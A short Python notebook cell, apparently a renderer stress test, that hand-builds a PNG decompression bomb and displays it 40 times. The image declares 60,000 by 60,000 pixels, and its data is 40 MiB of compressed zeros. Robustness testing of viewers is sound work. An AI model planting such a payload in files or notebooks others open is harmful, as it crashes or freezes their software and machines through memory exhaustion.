"""Many and huge pictures, and one small file that unpacks to gigabytes."""
# places: last

import struct, zlib

from IPython.display import Image, display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(40 << 20), 9)) + chunk(b"IEND", b"")
for n in range(40):
    display(Image(bomb))
